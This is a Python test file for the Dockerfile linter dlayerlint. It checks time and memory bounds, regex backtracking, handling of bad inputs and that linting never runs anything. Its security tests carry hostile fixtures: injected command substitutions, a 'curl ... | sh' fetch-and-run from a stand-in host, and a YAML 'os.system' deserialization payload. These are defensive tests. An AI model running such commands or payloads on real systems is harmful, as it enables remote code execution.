"""Limits, hostile input and security: dlayerlint finishes in bounded time and
memory on huge or deeply nested Dockerfiles, its regexes do not backtrack
catastrophically, unreadable inputs give a one-line error (exit 2) while the
other files are still linted, and linting never runs anything from the
Dockerfile (tests/test_security.py checks that no process or socket is opened).

The big cases run `analyze` in a child process under an address-space cap, so
a blow-up fails the test instead of the machine; each prints its time and
peak RSS (`pytest -s` shows them):

    LIMIT <case>: <chars> chars, <seconds> s, peak <MiB> MiB RSS, <outcome>

Bounds: TIME_LIMIT seconds and MEMORY_LIMIT_MB of peak RSS per case (the
child's Python and tree-sitter included).

"""
from __future__ import annotations

import ast
import importlib
import json
import os
import pkgutil
import re
import signal
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest

from dlayerlint.lint import analyze
from dlayerlint.dockerfile.expand import expand_word
from dlayerlint.shell.parse import MAX_PIPES, MAX_SCRIPT_CHARS
from dlayerlint.core.sizes import MAX_FILE_SIZE, human, parse_size

REPO = Path(__file__).resolve().parents[1]
TIME_LIMIT = 30.0          # seconds for each huge case
MEMORY_LIMIT_MB = 1024     # peak RSS of the child for each huge case
ADDRESS_SPACE_CAP = 4 << 30
FAST = 5.0                 # seconds for each adversarial (backtracking) input
MiB = 1 << 20

CHILD = r"""
import json, resource, sys, time
cap = int(sys.argv[2])
resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
from dlayerlint.lint import analyze
from dlayerlint.dockerfile.expand import expand_word
from dlayerlint.shell.parse import MAX_PIPES, MAX_SCRIPT_CHARS
from dlayerlint.core.sizes import MAX_FILE_SIZE, human, parse_size
with open(sys.argv[1], encoding="utf-8", newline="") as stream:
    text = stream.read()
start = time.perf_counter()
try:
    analysis = analyze(text)
    outcome = {"errors": [e.message for e in analysis.errors][:5], "findings": len(analysis.findings),
               "layers": len(analysis.layers),
               "stranded": None if analysis.stranded is None else analysis.stranded.bytes}
except BaseException as error:  # reported, not raised: the parent asserts on it
    outcome = {"exception": f"{type(error).__name__}: {str(error)[:200]}"}
outcome["seconds"] = time.perf_counter() - start
try:   # VmHWM is this program's own peak; ru_maxrss keeps the forking parent's across exec
    with open("/proc/self/status", encoding="ascii") as status:
        peak_kb = next(int(line.split()[1]) for line in status if line.startswith("VmHWM:"))
except (OSError, StopIteration):
    peak_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
outcome["peak_mb"] = peak_kb / 1024
print(json.dumps(outcome))
"""


def _env() -> dict[str, str]:
    return dict(os.environ, PYTHONPATH=str(REPO) + os.pathsep + os.environ.get("PYTHONPATH", ""))


def measure(name: str, text: str, tmp_path: Path, limit: float = TIME_LIMIT, kill_after: float | None = None) -> dict:
    """analyze(text) in a child; asserts it finished in time and memory, without an exception.
    The child is killed after kill_after seconds (default: limit + 15)."""
    kill_after = limit + 15 if kill_after is None else kill_after
    path = tmp_path / "Dockerfile"
    path.write_text(text, encoding="utf-8", newline="")
    try:
        child = subprocess.run([sys.executable, "-c", CHILD, str(path), str(ADDRESS_SPACE_CAP)],
                               env=_env(), capture_output=True, text=True, timeout=kill_after, check=False)
    except subprocess.TimeoutExpired:
        print(f"LIMIT {name}: {len(text)} chars, killed after {kill_after:.0f} s")
        pytest.fail(f"{name}: analyze did not finish within {kill_after:.0f} s")
    assert child.returncode == 0, f"{name}: the child died ({child.returncode}): {child.stderr[-2000:]}"
    outcome = json.loads(child.stdout.strip().splitlines()[-1])
    result = outcome.get("exception") or f"{outcome['findings']} findings, errors {outcome['errors']}"
    print(f"LIMIT {name}: {len(text)} chars, {outcome['seconds']:.2f} s, peak {outcome['peak_mb']:.0f} MiB RSS, "
          f"{result}")
    assert "exception" not in outcome, f"{name}: {outcome['exception']}"
    assert outcome["seconds"] < limit, f"{name}: {outcome['seconds']:.1f} s (limit {limit} s)"
    assert outcome["peak_mb"] < MEMORY_LIMIT_MB, f"{name}: peak {outcome['peak_mb']:.0f} MiB"
    return outcome


# ----------------------------------------------------------------------------- huge files

def _ten_mib(lines_of) -> str:
    parts, size, index = ["FROM debian AS build\n"], 0, 0
    while size < 10 * MiB:
        chunk = lines_of(index)
        parts.append(chunk)
        size += len(chunk)
        index += 1
    return "".join(parts)


def test_10mib_of_long_run_lines(tmp_path):
    """100 RUNs of ~100 KiB each (long echo/printf bodies) plus the odd rm."""
    def lines(index: int) -> str:
        return (f"RUN echo {'a' * 50_000} > /data/f{index} && printf '%s' {'b c ' * 12_500} >> /data/f{index}\n"
                f"RUN rm -f /data/f{index - 1}\n")
    outcome = measure("10 MiB in ~100 long RUN lines", _ten_mib(lines), tmp_path)
    assert not outcome["errors"]


def test_10mib_heredoc_and_comments(tmp_path):
    """A 5 MiB COPY heredoc body and 5 MiB of comment lines."""
    body = "".join(f"line {i} {'x' * 60}\n" for i in range(5 * MiB // 70))
    comments = "".join(f"# comment {i} {'y' * 60}\n" for i in range(5 * MiB // 72))
    text = f"FROM busybox\n{comments}COPY <<EOF /data/big\n{body}EOF\nRUN rm /data/big\n"
    assert len(text) >= 10 * MiB - 1000
    outcome = measure("10 MiB heredoc + comments", text, tmp_path)
    assert outcome["findings"] == 1 and outcome["stranded"] == len(body.encode())


def test_10mib_of_small_instructions(tmp_path):
    def lines(index: int) -> str:
        return (f"RUN dd if=/dev/zero of=/data/f{index} bs=1k count=4 && chmod 600 /data/f{index}\n"
                f"COPY --chown=1:1 src{index}.txt /app/{index}.txt\n"
                f"ENV V{index % 100}=${{V{(index + 1) % 100}:-/x/{index}}}\n"
                f"RUN rm -f /data/f{index - 1}\n")
    measure("10 MiB of small instructions", _ten_mib(lines), tmp_path, kill_after=TIME_LIMIT)


N = 10_000


def test_run_with_10000_and_commands(tmp_path):
    made = " && ".join(f"head -c 1k /dev/zero > /f{i}" for i in range(N))
    removed = " && ".join(f"rm /f{i}" for i in range(N))
    outcome = measure("RUN with 10,000 && (x2, 10,000 findings)", f"FROM busybox\nRUN {made}\nRUN {removed}\n",
                      tmp_path)
    assert outcome["findings"] == N and outcome["stranded"] == N * 1024


NESTED = {
    "10,000 nested $(": "RUN echo " + "$(echo " * N + "x" + ")" * N,
    "10,000 nested `$( )` unclosed": "RUN echo " + "$(" * N,
    "10,000 nested (": "RUN " + "( " * N + "true" + " )" * N,
    "10,000 nested {": "RUN " + "{ " * N + "true" + "; }" * N,
    "10,000 nested if": "RUN " + "if true; then " * N + "true" + "; fi" * N,
    "10,000 backticks": "RUN echo " + "`" * N,
    "10,000 nested \\`": "RUN echo " + "".join("\\" * (2 ** min(i, 3) - 1) + "`" for i in range(N)),
    "10,000 nested JSON [": "RUN " + "[" * N + "]" * N,
    "10,000 unclosed JSON [": "CMD " + "[" * N,
    "10,000 [[ test": "RUN " + "[[ " * N,
    "10,000 nested $((": "RUN echo " + "$((" * N + "1" + "))" * N,
    "10,000 nested <(": "RUN cat " + "<(cat " * N + "/x" + ")" * N,
    "10,000 nested quotes": "RUN echo " + "\"$(echo '" * N,
    "10,000 ${ unclosed in ENV": "ENV X=" + "${" * N,
}


@pytest.mark.parametrize("name", list(NESTED))
def test_deep_nesting(name, tmp_path):
    measure(name, f"FROM busybox\n{NESTED[name]}\nRUN touch /after\n", tmp_path)


@pytest.mark.parametrize("where", ["RUN echo {}", "ENV X={}", "WORKDIR /{}", "COPY {} /x"])
def test_nested_parameter_defaults(where, tmp_path):
    depth = N if where.startswith("RUN") else 1000
    nested = "${A:-" * depth + "x" + "}" * depth
    measure(f"{depth} nested ${{A:- in {where.split()[0]}", f"FROM busybox\n{where.format(nested)}\n", tmp_path)


def test_expansion_nests_without_a_depth_limit():
    """An explicit stack, linear time: 100,000 levels expand like one."""
    depth = 100_000
    nested = "${A:-" * depth + "$B" + "}" * depth
    assert timed(lambda: expand_word(nested, {"B": "b"}), limit=FAST) < FAST
    assert expand_word(nested, {"B": "b"}) == "b" and expand_word(nested, {"A": "a"}) == "a"
    assert expand_word(nested, {}) is None   # $B unknown: stays symbolic, not guessed
    assert expand_word("${A:-a`$b}", {}, escape="`") == "a$b"   # nested words use the file's escape


def test_100000_char_single_lines(tmp_path):
    text = ("FROM busybox\n"
            f"RUN echo {'a' * 100_000} > /x\n"
            f"RUN rm {' '.join(f'/f{i}' for i in range(100_000 // 7))}\n"
            f"ENV {' '.join(f'K{i}=v{i}' for i in range(100_000 // 12))}\n"
            f"COPY {' '.join(f's{i}' for i in range(100_000 // 7))} /dst/\n"
            f"LABEL x=\"{'q' * 100_000}\"\n")
    measure("100,000-char single lines", text, tmp_path)


def test_5000_line_continuation(tmp_path):
    plain = "".join(f"    && touch /f{i} \\\n" for i in range(5000))
    fillers = "".join(f"    && touch /g{i} \\\n\n# comment {i}\n   \n" for i in range(5000))
    text = f"FROM busybox\nRUN true \\\n{plain}    && true\nRUN true \\\n{fillers}    && true\nRUN rm /f1 /g1\n"
    outcome = measure("5,000-line continuations (and 5,000 with blank/comment lines)", text, tmp_path)
    assert not outcome["errors"]


def test_5000_run_instructions_merge(tmp_path):
    text = "FROM busybox\n" + "".join(f"RUN head -c 1k /dev/zero > /f{i}\n" for i in range(5000)) + "RUN rm -rf /f*\n"
    outcome = measure("5,000 RUN layers and one rm -rf glob", text, tmp_path)
    assert outcome["stranded"] == 5000 * 1024


def test_long_from_chain(tmp_path):
    text = "FROM busybox AS s0\n" + "".join(f"FROM s{i - 1} AS s{i}\nRUN touch /f{i}\n" for i in range(1, 1000))
    measure("1,000 stages each FROM the previous", text, tmp_path)


def test_long_copy_from_chain(tmp_path):
    text = "FROM busybox AS s0\nRUN touch /f0\n" + "".join(
        f"FROM busybox AS s{i}\nCOPY --from=s{i - 1} /f0 /f0\n" for i in range(1, 200))
    measure("199 chained COPY --from stages", text, tmp_path)


def test_file_changed_in_many_layers_has_bounded_messages():
    count = 500
    analysis = analyze("FROM busybox\n" + "RUN echo x >> /log\n" * count)
    assert len(analysis.findings) == count - 1
    assert max(len(f.message) for f in analysis.findings) < 1000
    assert sum(len(f.related) for f in analysis.findings) <= 10 * count


@pytest.mark.parametrize("command", ["head -c {} /dev/zero > /x", "dd if=/dev/zero of=/x bs={} count=1",
                                     "fallocate -l {} /x", "truncate -s {} /x"])
def test_size_with_thousands_of_digits(command):
    analyze(f"FROM busybox\nRUN {command.format('1' * 4301)}\n")


def test_size_too_big_for_a_float():
    analysis = analyze("FROM busybox\nRUN head -c 1" + "0" * 309 + " /dev/zero > /x\nRUN rm /x\n")
    assert analysis.findings


def test_sizes_above_what_a_file_can_hold_are_unreadable():
    """coreutils refuse sizes beyond off_t ("Value too large"): so does parse_size."""
    assert parse_size(str(MAX_FILE_SIZE)) == MAX_FILE_SIZE
    assert parse_size(str(MAX_FILE_SIZE + 1)) is None
    assert parse_size("0" * 5000 + "1k") == 1024
    assert parse_size("8Gx1G", dd=True) is None and parse_size("1Gx1G", dd=True) == 1 << 60
    analysis = analyze(f"FROM busybox\nRUN head -c {MAX_FILE_SIZE + 1} /dev/zero > /x\nRUN rm /x\n")
    assert [f.rule.id for f in analysis.findings] == ["DLL101"] and not analysis.findings[0].wasted.known


@pytest.mark.parametrize("count", [0, 1023, 1024, 1075, 1076, 1126, 3 * 1024 ** 2 // 2, 5 * 1024 ** 3 + 52428800,
                                   2 ** 62, 10 ** 400])
def test_human_sizes_need_no_float(count):
    """'%.1f' of count / 1024**k, in integer arithmetic (a float overflows above ~1.8e308)."""
    if count < 2 ** 53:   # the float formula, exact here, is the reference
        value, unit = float(count), "B"
        for unit in ("B", "KiB", "MiB", "GiB"):
            if value < 1024 or unit == "GiB":
                break
            value /= 1024
        assert human(count) == (f"{count} B" if unit == "B" else f"{value:.1f} {unit}")
    else:
        assert human(count).endswith(" GiB")


# ----------------------------------------------------------------------------- regexes


class Slow(Exception):
    pass


def _alarm(_signum, _frame):
    raise Slow()


def timed(function, limit: float = FAST) -> float:
    """Run function with a wall-clock alarm (re and the parser check signals)."""
    previous = signal.signal(signal.SIGALRM, _alarm)
    signal.setitimer(signal.ITIMER_REAL, limit * 3)
    start = time.perf_counter()
    try:
        function()
    except Slow:
        pytest.fail(f"still running after {limit * 3:.0f} s")
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)
    elapsed = time.perf_counter() - start
    assert elapsed < limit, f"{elapsed:.2f} s (limit {limit} s)"
    return elapsed


def _package_modules() -> list:
    import dlayerlint  # pylint: disable=import-outside-toplevel
    return [importlib.import_module(info.name)
            for info in pkgutil.walk_packages(dlayerlint.__path__, "dlayerlint.")
            if not info.name.endswith("__main__")]


# how a method applies a pattern: search-like ones try every start
METHOD_USE = {"match": "match", "fullmatch": "fullmatch", "search": "search", "sub": "search", "subn": "search",
              "findall": "search", "finditer": "search", "split": "search"}
EVERY_USE = ("fullmatch", "match", "search")


def _calls() -> list[tuple[str, ast.Call]]:
    """(module, call) for each call of a METHOD_USE method or of `compile` in the package."""
    calls = []
    for module in _package_modules():
        tree = ast.parse(Path(module.__file__).read_text(encoding="utf-8"))
        calls += [(module.__name__, node) for node in ast.walk(tree)
                  if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                  and (node.func.attr in METHOD_USE or node.func.attr == "compile")]
    return calls


def _receiver(call: ast.Call) -> str | None:
    value = call.func.value
    return value.id if isinstance(value, ast.Name) else value.attr if isinstance(value, ast.Attribute) else None


def module_patterns() -> dict[str, tuple[re.Pattern, tuple[str, ...]]]:
    """Every regex of dlayerlint and the ways the code applies it: compiled
    patterns in module globals (with the methods called on their names
    anywhere in the package, or every method) and literal patterns passed to
    `re.match(...)`, `re.sub(...)` ... (a `re.compile` in a function: every method)."""
    calls = _calls()
    uses: dict[str, set[str]] = {}
    for _, call in calls:
        if call.func.attr in METHOD_USE:
            uses.setdefault(_receiver(call) or "", set()).add(METHOD_USE[call.func.attr])
    found = {}
    for module in _package_modules():
        for attribute, value in vars(module).items():
            if isinstance(value, re.Pattern):
                found[f"{module.__name__.removeprefix('dlayerlint.')}.{attribute}"] = (
                    value, tuple(sorted(uses.get(attribute, EVERY_USE))))
    for module, call in calls:
        literal = call.args[0] if call.args else None
        if _receiver(call) == "re" and isinstance(literal, ast.Constant) and isinstance(literal.value, str):
            if literal.value in {pattern.pattern for pattern, _ in found.values()}:
                continue   # a module global, found above
            use = (METHOD_USE[call.func.attr],) if call.func.attr in METHOD_USE else EVERY_USE
            found[f"{module.removeprefix('dlayerlint.')}:{call.lineno}"] = (re.compile(literal.value), use)
    return found


# (head, repeated unit, tail): the unit repeated n times; runs of the characters regexes care about
SHAPES = [
    ("", "-", ""), ("", "$", ""), ("", "{", ""), ("", "${", ""), ("", "$(", ""), ("", "'", ""), ("", '"', ""),
    ("", "<<", ""), ("", "<", ""), ("", "\\", ""), ("", "\\ ", ""), ("", " ", "x"), ("", "\t", "\\x"),
    ("a=", " ", "x"), ("a=", "\t ", "\t"), ("", "a", "="), ("", "1", "k!"), ("", "1x", "!"), ("", "[", ""),
    ("", "[!", ""), ("", "~", "/"), ("", "-r", ","), ("-", "r", "!"), ("<<", " ", "<"), ("<<", "\t", "<x"),
    ("", "<<a", "!"), ("", " cd", ""), ("", ";", ""), ("", " a", "="), ("", "&", ""), ("", "@", "="),
    ("", "x\\", ""), ("", "http://", ""), ("", "`", ""), ("", "` ", ""), ("", "*", "a"), ("", "é", ""),
    ("", "\\0", ""), ("", "\\x", ""), ("<<EOF ", "<<1", "!"), ("", "\n", "x"), ("#", " ", "="),
]
SMALL, BIG = 6_250, 50_000   # 8x longer: linear work grows 8x, quadratic 64x


def _regex_params():
    return sorted(module_patterns())


def _cost(pattern: re.Pattern, uses: tuple[str, ...], text: str) -> float:
    start = time.perf_counter()
    for use in uses:
        getattr(pattern, use)(text)
    return time.perf_counter() - start


@pytest.mark.parametrize("name", _regex_params())
def test_module_regexes_do_not_backtrack(name):
    """Every compiled regex of dlayerlint, applied as the code applies it, stays
    (near) linear on adversarial shapes, and the exponential shape stays fast."""
    pattern, uses = module_patterns()[name]
    slow = []

    def run_all():
        for head, unit, tail in SHAPES:
            small = _cost(pattern, uses, head + unit * SMALL + tail)
            big = _cost(pattern, uses, head + unit * BIG + tail)
            if big > 0.05 and big > 20 * max(small, 1e-4):
                slow.append(f"{head!r}+{unit!r}*n+{tail!r}: {small:.3f} s -> {big:.3f} s")
        # the exponential shape: short, but each `<<1111111111` multiplies the work
        if _cost(pattern, uses, "<<EOF " + ("<<" + "1" * 10) * 7 + "!") > 0.25:   # ONLY_HEREDOCS: 0.8 s
            slow.append("'<<EOF ' + '<<1111111111' * 7 + '!'")

    timed(run_all, limit=FAST * 2)
    assert not slow, f"{name} grows faster than linearly: {slow}"


def test_only_heredocs_redos(tmp_path):
    text = "FROM busybox\nRUN <<EOF " + ("<<" + "1" * 10) * 9 + "!\necho hi\nEOF\n"
    measure("131-char RUN <<EOF <<1111111111...", text, tmp_path, limit=FAST, kill_after=FAST)


def test_parser_continuation_regexes_do_not_backtrack():
    from dlayerlint.dockerfile.parser import _Parser  # pylint: disable=import-outside-toplevel
    for head in ("", "# escape=`\n"):
        parser = _Parser(head + "FROM busybox\n")
        parser.parse()
        for head, unit, tail in SHAPES:
            small = _cost(parser.continuation, ("search",), head + unit * SMALL + tail)
            big = _cost(parser.continuation, ("search",), head + unit * BIG + tail)
            assert big < 0.05 or big < 20 * max(small, 1e-4), (head, unit, tail, small, big)


def test_glob_and_dockerignore_patterns_do_not_backtrack(tmp_path):
    from dlayerlint.simulate.context.build import BuildContext  # pylint: disable=import-outside-toplevel
    name = "a" * 60
    (tmp_path / name).write_text("x")
    (tmp_path / ".dockerignore").write_text("*a" * 30 + "b\n" + "**/" * 30 + "*a*a*a*a*a*a*a*a*a*a*b\n")
    (tmp_path / "Dockerfile").write_text("FROM busybox\nCOPY . /src\n")
    text = (f"FROM busybox\nCOPY . /src\nRUN head -c 1k /dev/zero > /d/{name}\n"
            f"RUN rm -rf /d/{'*a' * 30}b /d/{'*a' * 30}* /src/{'*a' * 30}*\n")
    context = BuildContext(tmp_path, dockerfile=tmp_path / "Dockerfile")
    timed(lambda: analyze(text, context))


END_TO_END = {
    "dashes": "-", "dollars": "$", "braces": "{", "quotes": "'\"", "backslashes": "\\", "backticks": "`",
    "param heads": "${", "substitutions": "$(", "equals": "=", "colons": ":", "hashes": "#", "tildes": "~",
    "stars": "*", "semicolons": ";", "ampersands": "&", "parens": "(", "heredoc markers": "<<-",
    "unicode": "é\u2028", "CR": "\r",
}
LINE = 100_000


@pytest.mark.parametrize("name", list(END_TO_END))
def test_adversarial_lines(name):
    run = END_TO_END[name] * (LINE // len(END_TO_END[name]))
    text = (f"# escape={run[:LINE // 10]}\nFROM busybox\nRUN echo {run}\nRUN rm {run}\nENV X={run}\n"
            f"COPY {run} /x\nRUN --mount=type=cache,target={run} true\n")
    timed(lambda: analyze(text))


def test_heredoc_word_with_many_blanks(tmp_path):
    measure("RUN cat << + 100,000 blanks + <x", "FROM busybox\nRUN cat <<" + " " * LINE + "<x\n", tmp_path,
            limit=FAST, kill_after=FAST)


def test_long_run_of_brackets(tmp_path):
    measure("RUN rm [[[[... (100,000)", "FROM busybox\nRUN rm " + "[" * LINE + "\n", tmp_path,
            limit=FAST, kill_after=FAST)


@pytest.mark.parametrize("unit", ["a|", "<<", "|", ")"])
def test_tree_sitter_quadratic_inputs(unit, tmp_path):
    measure(f"RUN echo {unit * 3}... (100,000 chars)", "FROM busybox\nRUN echo " + unit * (LINE // len(unit)) + "\n",
            tmp_path, limit=FAST, kill_after=FAST)


@pytest.mark.parametrize("body, note", [
    ("echo " + "a|" * (MAX_PIPES + 1), f"more than {MAX_PIPES:,} pipes"),
    ("echo " + ")" * 5000, "quadratic"),
    ("echo " + "{|" * 1000, "quadratic"),
    ("echo " + "x" * MAX_SCRIPT_CHARS, f"longer than {MAX_SCRIPT_CHARS:,} characters"),
])
def test_body_beyond_the_parse_limits_is_unknown_with_a_note(body, note):
    analysis = analyze(f"FROM busybox\nRUN head -c 1k /dev/zero > /x\nRUN {body} && rm /x\n")
    assert not analysis.findings   # an unparsed body never causes a finding
    unknown = analysis.layers[-1].layer.unknown
    assert len(unknown) == 1 and unknown[0].startswith("a shell script not analysed") and note in unknown[0]
    assert not analysis.layers[-1].added.known


def test_bodies_at_the_parse_limits_are_analysed():
    pipeline = " | ".join(["cat"] * MAX_PIPES)
    for body in (f"head -c 1k /dev/zero > /x; {pipeline}", "head -c 1k /dev/zero > /x" + " && true" * 100_000):
        analysis = analyze(f"FROM busybox\nRUN {body}\nRUN rm /x\n")
        assert [f.rule.id for f in analysis.findings] == ["DLL101"], body[:60]


# ----------------------------------------------------------------------------- the CLI on bad inputs

GOOD = "FROM busybox\nRUN head -c 10 /dev/zero > /a\nRUN rm /a\n"


def dlayerlint(*args: str, cwd: Path, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "dlayerlint", *args], cwd=cwd, env=_env(),
                          capture_output=True, text=True, timeout=timeout, check=False)


def _make_bad(kind: str, folder: Path) -> Path:
    path = folder / f"bad-{kind}"
    if kind == "empty":
        path.write_bytes(b"")
    elif kind == "directory":
        path.mkdir()
    elif kind == "nul-bytes":
        path.write_bytes(b"FROM busybox\nRUN echo \0\n" + bytes(range(256)))
    elif kind == "latin-1":
        path.write_bytes("FROM busybox\nRUN echo café\n".encode("latin-1"))
    elif kind == "utf-16":
        path.write_bytes("FROM busybox\nRUN true\n".encode("utf-16"))
    elif kind == "dangling-symlink":
        path.symlink_to(folder / "nowhere")
    elif kind == "missing":
        pass
    elif kind == "not-a-directory":   # reading it fails with ENOTDIR (tests run as root: chmod 000 reads fine)
        (folder / "plain").write_text("x")
        path = folder / "plain" / "Dockerfile"
    elif kind == "bom-only":
        path.write_bytes(b"\xef\xbb\xbf")
    return path


BAD_KINDS = ["empty", "directory", "nul-bytes", "latin-1", "utf-16", "dangling-symlink", "missing",
             "not-a-directory", "bom-only"]


@pytest.mark.parametrize("kind", BAD_KINDS)
@pytest.mark.parametrize("output", ["text", "json"])
def test_unreadable_file_is_one_error_and_others_are_linted(kind, output, tmp_path):
    bad = _make_bad(kind, tmp_path)
    good = tmp_path / "good.Dockerfile"
    good.write_text(GOOD)
    result = dlayerlint("check", "--format", output, str(bad), str(good), cwd=tmp_path)
    assert result.returncode == 2, result.stdout + result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    if output == "json":
        files = json.loads(result.stdout)["files"]
        assert [f["path"] for f in files] == [str(bad), str(good)]
        assert len(files[0]["errors"]) == 1 and not files[0]["findings"]
        assert [f["rule"] for f in files[1]["findings"]] == ["DLL101"] and not files[1]["errors"]
        return
    errors = [line for line in result.stdout.splitlines() + result.stderr.splitlines() if "error" in line]
    assert len(errors) == 1, result.stdout + result.stderr
    assert errors[0].startswith(str(bad) + ":")
    assert f"{good}:3:" in result.stdout and "DLL101" in result.stdout


def test_fifo_is_read_like_a_file(tmp_path):
    """`dlayerlint check <(generate)` passes a pipe: it is read, not refused."""
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)

    def writer():
        with open(fifo, "w", encoding="utf-8") as stream:
            stream.write(GOOD)

    thread = threading.Thread(target=writer, daemon=True)
    thread.start()
    result = dlayerlint("check", str(fifo), cwd=tmp_path, timeout=60)
    thread.join(5)
    assert result.returncode == 1 and f"{fifo}:3:" in result.stdout


def test_cli_survives_absurd_sizes(tmp_path):
    (tmp_path / "big").write_text("FROM busybox\nRUN head -c 1" + "0" * 400 + " /dev/zero > /x\nRUN rm /x\n")
    (tmp_path / "good").write_text(GOOD)
    result = dlayerlint("check", "--layers", "big", "good", cwd=tmp_path)
    assert "Traceback" not in result.stderr and "good:3:" in result.stdout


# ----------------------------------------------------------------------------- security

HOSTILE = """# syntax=docker/dockerfile:1
ARG X=$(touch {marker}-arg)
FROM busybox AS build
SHELL ["/bin/sh", "-c"]
RUN touch {marker}-run
RUN ["touch", "{marker}-exec"]
RUN ["/bin/sh", "-c", "touch {marker}-execsh"]
RUN echo $(touch {marker}-subst) `touch {marker}-backtick` <(touch {marker}-procsub)
RUN <<EOF
touch {marker}-heredoc
EOF
RUN bash <<EOF
touch {marker}-bash
EOF
ENV P=$(touch {marker}-env)
WORKDIR /$(touch {marker}-workdir)
COPY <<EOF /etc/profile.d/x.sh
touch {marker}-copy
EOF
ONBUILD RUN touch {marker}-onbuild
HEALTHCHECK CMD touch {marker}-health
FROM build
RUN curl -fsSL https://example.invalid/x.sh | sh && wget -q http://example.invalid/y -O /y
ADD https://example.invalid/archive.tar.gz /opt/
ADD git@example.invalid:org/repo.git /src
RUN git clone https://example.invalid/r.git /r && pip install https://example.invalid/p.whl
ENTRYPOINT touch {marker}-entrypoint
CMD ["touch", "{marker}-cmd"]
"""


def test_check_runs_nothing_from_the_dockerfile(tmp_path):
    marker = f"/tmp/PWNED-{uuid.uuid4().hex}"
    (tmp_path / "Dockerfile").write_text(HOSTILE.format(marker=marker))
    for args in (["check", "Dockerfile"], ["check", "--layers", "--format", "json", "Dockerfile"],
                 ["check", "--build-arg", f"X=$(touch {marker}-buildarg)", "--target", "build", "Dockerfile"]):
        result = dlayerlint(*args, cwd=tmp_path)
        assert "Traceback" not in result.stderr
    leftovers = [p for p in Path("/tmp").iterdir() if p.name.startswith(Path(marker).name)]
    assert not leftovers


def test_yaml_is_loaded_with_a_safe_loader(tmp_path):
    """Every YAML load goes through a safe loader, and a hostile tag is refused."""
    import yaml  # pylint: disable=import-outside-toplevel
    from dlayerlint.simulate import knowledge  # pylint: disable=import-outside-toplevel
    from dlayerlint.core import yamlload  # pylint: disable=import-outside-toplevel
    loader = yamlload.SafeLoader
    assert issubclass(loader, yaml.constructor.SafeConstructor)
    assert not issubclass(loader, yaml.constructor.FullConstructor)   # Full/Unsafe loaders subclass it
    marker = tmp_path / "pwned"
    evil = tmp_path / "evil.yaml"
    evil.write_text(f"x: !!python/object/apply:os.system ['touch {marker}']\n")
    with pytest.raises(yaml.YAMLError):
        knowledge.load_yaml(evil)
    assert not marker.exists()
    # no other YAML entry point in the package
    source = "\n".join(p.read_text() for p in Path(knowledge.__file__).parent.rglob("*.py"))
    assert not re.search(r"yaml\.(unsafe_load|full_load|load_all|safe_load_all)\b|Loader=yaml\.(Loader|FullLoader|"
                         r"UnsafeLoader|CLoader|CFullLoader|CUnsafeLoader)\b", source)
    assert len(re.findall(r"yaml\.load\(", source)) == len(re.findall(r"yaml\.load\([^)]*Loader=SafeLoader", source))
